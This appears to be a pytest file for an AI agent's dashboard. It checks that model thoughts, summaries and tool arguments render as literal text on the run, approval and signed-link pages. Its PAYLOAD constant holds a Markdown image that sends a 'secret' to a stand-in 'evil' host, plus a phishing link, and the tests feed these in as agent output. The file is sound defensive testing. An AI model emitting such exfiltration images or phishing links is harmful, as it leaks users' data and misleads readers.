"""What the model, a tool or a user wrote is shown literally: a thought, a summary or an
argument written as Markdown draws no image (fetched with no click: data leaves) and no link
(phishing) on the run page, in the inbox, on the approval page, or behind the signed link."""

from __future__ import annotations

import re

import pytest

from agent_core.models import RunStatus
from agent_core.notify import Notifier
from dashboard.plain import inline_code, plain
from tests.dashboard_support import no_traceback, raw_text, text, visible
from tests.support import agent_settings, make_objective, make_orchestrator
from tests.test_dashboard_approval_link import SECRET

PAYLOAD = "![s](http://evil/x.png?d=secret) [Click here](http://evil/phish)"
TITLE = "Leads :red[now] $x^2$ :material/home: <b>bold</b>"
# Markdown or Streamlit syntax that would draw something: an image, a link, an autolink, a
# colour directive, a formula, raw HTML.
DRAWN = re.compile(r"(?<!\\)!(?<!\\)\[|(?<!\\)\]\(|https?:|(?<!\\):red\[|(?<!\\)\$x|(?<!\\)<b>")


def all_markdown(at) -> list[str]:
    """Every string the page hands to Streamlit's Markdown: texts and widget labels (code
    blocks show their text as it is)."""
    code = "\n".join(str(element.value) for element in at.code)
    labels = [line for line in raw_text(at).split("\n") if line not in code]
    labels += [str(element.label) for element in at.get("page_link")]
    labels += [str(element.label) for element in at.get("expander")]
    labels += [str(element.label) for element in at.button]
    return labels


def assert_nothing_drawn(at) -> str:
    """No element draws anything; what the page reads, labels included."""
    no_traceback(at)
    drawn = [value for value in all_markdown(at) if DRAWN.search(value)]
    assert not drawn, drawn
    return visible("\n".join(all_markdown(at)))


@pytest.mark.parametrize(
    "value",
    [PAYLOAD, TITLE, "1. two\n\n    code\n# head\n- item\n> quote\n---\n|a|b|\n", "a\\*b*"],
)
def test_plain_escapes_every_markdown_special_and_reads_the_same(value):
    escaped = plain(value)
    assert not DRAWN.search(escaped)
    assert ":material/" not in escaped  # Streamlit rewrites it in the source, escaped or not
    unescaped = re.sub(r"\\(.)", r"\1", escaped)
    assert unescaped == re.sub(r"(?m)^[ \t]+", "", value)


def run_with_payload(store, llm_server):
    objective = make_objective(store, title=TITLE, tools_allowed=["read_database"])
    llm_server.step(PAYLOAD, "read_database", table="app_leads")
    llm_server.done(PAYLOAD, thought=PAYLOAD)
    orchestrator = make_orchestrator(store, llm_server.url, settings=agent_settings())
    run = store.create_run(objective.id)
    store.claim_run(run.id, owner=orchestrator.owner, lease_s=300)
    return orchestrator.execute(run.id)


def test_the_run_page_shows_thoughts_and_summary_literally(dashboard, live_store, llm_server):
    run = run_with_payload(live_store, llm_server)
    for page, query in (("run", {"id": run.id}), ("runs", {}), ("home", {})):
        shown = assert_nothing_drawn(dashboard.open(page, **query))
        assert f"Run #{run.run_number} · {TITLE}" in shown, page
    shown = text(dashboard.open("run", id=run.id))
    assert f"*Why:* {PAYLOAD}" in shown
    assert f"**Summary.** {PAYLOAD}" in shown


def paused_with_payload(store, llm_server, mail_server):
    settings = agent_settings(
        agent_approval_flow=True,
        agent_secret_key=SECRET,
        smtp_host="127.0.0.1",
        smtp_port=mail_server.port,
        smtp_security="none",
        smtp_from="agent@example.com",
        admin_email="boss@example.com",
        agent_approval_notify_channels="email",
    )
    objective = make_objective(store, title=TITLE, tools_allowed=["send_email"])
    llm_server.step(
        PAYLOAD, "send_email", to="lead@example.com", subject=PAYLOAD, body="Hello " + PAYLOAD
    )
    orchestrator = make_orchestrator(
        store,
        llm_server.url,
        settings=settings,
        on_approval=Notifier(store, settings).request_approval,
    )
    run = store.create_run(objective.id)
    store.claim_run(run.id, owner=orchestrator.owner, lease_s=300)
    assert orchestrator.execute(run.id).status is RunStatus.PAUSED
    (approval,) = store.list_approvals()
    (mail,) = mail_server.received
    token = re.search(r"/approval\?token=(\S+)", mail.body).group(1)
    return run, approval, token


def test_the_approval_card_shows_the_thought_and_arguments_literally(
    dashboard, live_store, llm_server, mail_server
):
    run, approval, token = paused_with_payload(live_store, llm_server, mail_server)
    for page, query in (
        ("approvals", {}),
        ("approval", {"id": approval.id}),
        ("approval", {"token": token}),  # the phone page, from the signed link
        ("run", {"id": run.id}),
    ):
        shown = assert_nothing_drawn(dashboard.open(page, **query))
        assert f"*Why:* {PAYLOAD}" in shown, page
        assert f"Run #{run.run_number} · {TITLE}" in shown, page
        if page != "run":
            assert "with the subject “![s](http://evil/x.png?d=secret) [Click" in shown, page


@pytest.mark.parametrize("value", ["0 9 * * 1-5", "a`b", "``x``", "`", "![s](http://e/x)"])
def test_inline_code_cannot_be_closed_by_its_text(value):
    code = inline_code(value)
    fence = re.match(r"`+", code).group(0)
    inner = code[len(fence) : -len(fence)]
    assert all(len(run) != len(fence) for run in re.findall(r"`+", inner))
    assert inner.strip(" ") == value
